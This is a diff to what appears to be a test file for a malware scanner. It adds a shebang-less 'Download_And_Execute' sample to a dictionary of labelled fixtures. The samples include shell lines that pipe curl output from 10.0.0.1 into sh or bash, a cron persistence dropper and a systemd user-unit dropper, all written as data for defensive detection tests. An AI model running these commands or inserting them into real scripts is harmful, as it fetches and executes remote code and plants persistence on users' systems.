@@ -35,6 +35,8 @@ SAMPLES = {
     "dropper.sh": ("Persistence_Dropper", "#!/bin/sh\n(crontab -l; echo \"*/5 * * * * curl -fsSL http://10.0.0.1/s"
                    " | sh\") | crontab -\n"),
     "eicar-late.txt": ("EICAR-Test-File", "x" * 900 + EICAR.decode() + "tail"),
+    # No "#!" line, and a variable exported as scripts do (JavaScript exports too).
+    "exported.sh": ("Download_And_Execute", "set -e\nexport PATH=/usr/bin:$PATH\ncurl -fsSL http://10.0.0.1/i | bash\n"),
     # No "#!" line, and a unit file's section and keys in its here-document.
     "unit-dropper": ("Persistence_Dropper", "cat > ~/.config/systemd/user/upd.service <<EOF\n[Unit]\n"
                      "Description=update\n[Service]\nExec" + "Start=/tmp/.u\nEOF\n"
